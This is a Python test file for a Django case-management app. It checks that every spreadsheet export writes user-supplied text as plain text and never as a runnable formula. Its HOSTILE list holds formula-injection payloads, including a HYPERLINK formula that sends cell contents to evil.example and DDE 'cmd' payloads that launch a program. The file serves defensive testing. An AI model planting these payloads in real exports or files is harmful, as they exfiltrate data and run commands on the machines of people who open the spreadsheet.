"""Issue 13 finding 5: no export writes a cell a spreadsheet program would run as a formula.

Every text field that names something (people, staff, groups, projects, notes…) is given a hostile value, then
every page of the access matrix is asked for its spreadsheet (`?export=xlsx`, or an `xlsx` format in the
address) as the unit's supervisor, so a new export is covered as soon as its page is in the matrix."""

from __future__ import annotations

import io

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from tongxing.lib.spreadsheet import FORMULA_TRIGGERS, as_text

from .access_world import build_world
from .conftest import verified_login
from .test_access_matrix import MATRIX

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&B3,"open")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FIELDS = {"name", "name_en", "title", "notes", "topic", "description", "recipient", "purpose", "information",
          "goals", "actions", "direction", "timetable", "content", "venue", "reason"}


def _poison():
    """Each naming text field of every record gets one of the hostile values, in turn."""
    n = 0
    for model in apps.get_models():
        if not model.__module__.startswith("tongxing.") or model.__name__.startswith("Historical"):
            continue
        for field in model._meta.concrete_fields:
            if (field.name in FIELDS and isinstance(field, (models.CharField, models.TextField))
                    and not field.choices and not field.unique):
                value = HOSTILE[n % len(HOSTILE)][:field.max_length or 1000]
                model.objects.update(**{field.name: value})
                n += 1


def test_the_helper_leaves_numbers_and_plain_text():
    assert as_text("-3") == "-3" and as_text("+1.5%") == "+1.5%" and as_text("周小明") == "周小明"
    assert as_text("=1+1") == "'=1+1" and as_text(" @x") == "' @x" and as_text(7) == 7


def test_every_export_writes_hostile_text_as_text(client):
    world = build_world()
    _poison()
    verified_login(client, world["users"]["bob"])
    objects, exports, hostile_seen = world["objects"], [], 0
    for name, (method, kwargs, query, _allowed, _marker) in sorted(MATRIX.items()):
        if method != "GET":
            continue
        values = {k: ("xlsx" if k == "fmt" else objects.get(v, v)) for k, v in kwargs.items()}
        url = reverse(name, kwargs=values) + query.format(**objects)
        if "fmt" not in kwargs:
            url += ("&" if "?" in url else "?") + "export=xlsx"
        response = client.get(url)
        if response.status_code != 200 or response["Content-Type"] != XLSX:
            continue
        exports.append(name)
        book = load_workbook(io.BytesIO(response.content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.lstrip(" ").startswith(FORMULA_TRIGGERS) or \
                            cell.value == as_text(cell.value), (name, cell.coordinate, cell.value)
                        hostile_seen += cell.value.lstrip("'") in HOSTILE
    # people, cases, activities, groups, referrals, assessments, the caseload, projects, prevention, the return
    assert {"person-list", "case-list", "activities:list", "activities:referrals", "activities:assessments",
            "home", "project-export", "prevention-export", "fsa-export"} <= set(exports), exports
    assert hostile_seen >= 10
